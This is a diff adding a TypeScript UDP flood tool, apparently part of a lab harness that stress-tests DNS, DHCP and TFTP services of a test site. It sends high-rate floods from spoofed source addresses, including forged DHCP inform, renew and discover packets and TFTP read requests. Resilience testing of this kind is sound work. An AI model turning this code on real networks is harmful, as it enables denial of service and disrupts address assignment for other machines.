@@ -1,0 +1,125 @@
+/**
+ * The attacker over UDP. Its namespace has all addresses of the site and answers no ARP request, so that it can send from
+ * addresses of other machines and from addresses that no machine has. Arguments: attack, seconds, packets per second,
+ * server, full name of a node. Prints when it started and ended, and how many packets it sent.
+ */
+import { createSocket, type Socket } from 'node:dgram'
+import { once } from 'node:events'
+import { nodes, type Node } from '../site.ts'
+import { discover, inform, renew } from './dhcp-packet.ts'
+
+export type Flood = { readonly startedAt: number; readonly endedAt: number; readonly sent: number }
+
+type Attack = {
+  /** The addresses from which it sends. */
+  readonly from: readonly string[]
+  readonly fromPort?: number
+  readonly to: 53 | 67 | 69
+  /** How many ports of each address it uses. */
+  readonly ports?: number
+  readonly packet: (index: number, name: string) => Buffer
+}
+
+/** In the subnet of the site, and not in use. */
+const unused = Array.from({ length: 80 }, (_, index) => `172.16.5.${index + 1}`)
+/** The measured node. */
+const [measured] = nodes as [Node]
+/** Declared nodes that are switched off. */
+const off: readonly Node[] = nodes.slice(100, 180)
+const offAt = (index: number) => off[index % off.length] as Node
+const offAddresses = off.map(({ address }) => address)
+/** Not the address of a node: it has no part in these attacks. */
+const anyAddress = ['172.16.7.242']
+
+export const udpAttacks: Readonly<Record<string, Attack>> = {
+  /** Queries whose replies go to addresses that no machine has. */
+  'dns-unused-addresses': { from: unused, to: 53, packet: (index, name) => query(index, name) },
+  /** DHCPINFORM in the name of nodes that are switched off. */
+  'dhcp-inform': {
+    ...{ from: offAddresses, fromPort: 68, to: 67 },
+    packet: (index) => inform({ mac: offAt(index).mac, xid: index, ciaddr: offAt(index).address }),
+  },
+  /** The same with requests that extend a lease. */
+  'dhcp-renew': {
+    ...{ from: offAddresses, fromPort: 68, to: 67 },
+    packet: (index) => renew({ mac: offAt(index).mac, xid: index, ciaddr: offAt(index).address }),
+  },
+  /** Each DHCPDISCOVER from another undeclared machine. */
+  'dhcp-unknown-machines': {
+    ...{ from: anyAddress, fromPort: 68, to: 67 },
+    packet: (index) => discover({ mac: `02:00:${octets(index)}`, xid: index }),
+  },
+  /** One declared machine, which describes itself in another way each time. */
+  'dhcp-changing-options': {
+    ...{ from: anyAddress, fromPort: 68, to: 67 },
+    packet: (index) =>
+      discover({
+        ...{ mac: offAt(0).mac, xid: index },
+        firmware: {
+          vendorClass: `PXEClient:Arch:00007:UNDI:${index}`,
+          architecture: [0, 7, 9, 16][index % 4] ?? 0,
+        },
+      }),
+  },
+  /** Read requests in the name of the measured node, each from another port. */
+  'tftp-forged-node': {
+    ...{ from: [measured.address], ports: 500, to: 69 },
+    packet: () => readRequest('small.txt'),
+  },
+  /** Read requests for a file that does not exist, from addresses that no machine has. */
+  'tftp-missing-file': { from: unused, to: 69, packet: () => readRequest('missing.efi') },
+}
+
+async function send(
+  { from, fromPort = 0, to, ports = 1, packet }: Attack,
+  seconds: number,
+  rate: number,
+  server: string,
+  name: string,
+): Promise<Flood> {
+  const addresses = Array.from({ length: ports }, () => from).flat()
+  const sockets = await Promise.all(addresses.map((address) => bound(address, fromPort)))
+  const startedAt = Date.now()
+  const start = performance.now()
+  let sent = 0
+  for (let elapsed = 0; elapsed < seconds * 1000; elapsed = performance.now() - start) {
+    for (const due = (elapsed * rate) / 1000; sent < due; sent++) {
+      sockets[sent % sockets.length]?.send(packet(sent, name), to, server)
+    }
+    await new Promise((resolve) => setTimeout(resolve, 2))
+  }
+  return { startedAt, endedAt: Date.now(), sent }
+}
+
+async function bound(address: string, port: number): Promise<Socket> {
+  const socket = createSocket({
+    ...{ type: 'udp4', reuseAddr: port !== 0 },
+    // A literal address must not cost a turn of the event loop for each packet.
+    lookup: (host, _options, done) => done(null, host, 4),
+  })
+  const listening = once(socket, 'listening')
+  socket.bind({ address, port })
+  await listening
+  // Of single packets, for example when the buffer of the link is full.
+  socket.on('error', () => {})
+  return socket
+}
+
+function query(id: number, name: string): Buffer {
+  const labels = name.split('.').flatMap((label) => [Buffer.of(label.length), Buffer.from(label)])
+  const header = Buffer.of((id >>> 8) & 255, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)
+  return Buffer.concat([header, ...labels, Buffer.of(0, 0, 1, 0, 1)])
+}
+
+const readRequest = (file: string) => Buffer.from(`\0\x01${file}\0octet\0`, 'latin1')
+
+const octets = (value: number) =>
+  [24, 16, 8, 0].map((bits) => ((value >>> bits) & 255).toString(16).padStart(2, '0')).join(':')
+
+if (import.meta.main) {
+  const [name = '', seconds = '5', rate = '5000', server = '', nodeName = ''] = process.argv.slice(2)
+  const attack = udpAttacks[name]
+  if (attack === undefined) throw new Error(`unknown attack ${JSON.stringify(name)}`)
+  const flood = await send(attack, Number(seconds), Number(rate), server, nodeName)
+  process.stdout.write(JSON.stringify(flood), () => process.exit())
+}
